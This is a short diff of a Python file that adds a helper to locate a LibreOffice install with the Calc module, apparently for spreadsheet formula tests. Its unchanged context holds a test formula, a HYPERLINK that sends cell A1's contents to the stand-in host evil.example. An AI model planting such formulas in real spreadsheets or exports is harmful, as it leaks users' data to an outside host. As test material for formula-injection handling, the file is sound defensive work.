@@ -2,8 +2,20 @@
 
 import shutil
 import subprocess
+from pathlib import Path
 
-LIBREOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+
+def with_calc():
+    """Find a LibreOffice that has Calc; one of Writer alone is as good as none."""
+    program = shutil.which("soffice") or shutil.which("libreoffice")
+    if not program:
+        return None
+    folder = Path(program).resolve().parent.parent
+    modules = folder.glob("*/*sclo.*")  # libsclo.so, libsclo.dylib, sclo.dll
+    return program if shutil.which("localc") or any(modules) else None
+
+
+LIBREOFFICE = with_calc()
 FORMULAS = (
     '=HYPERLINK("http://evil.example/?x="&A1,"open")',
     "=1+1",
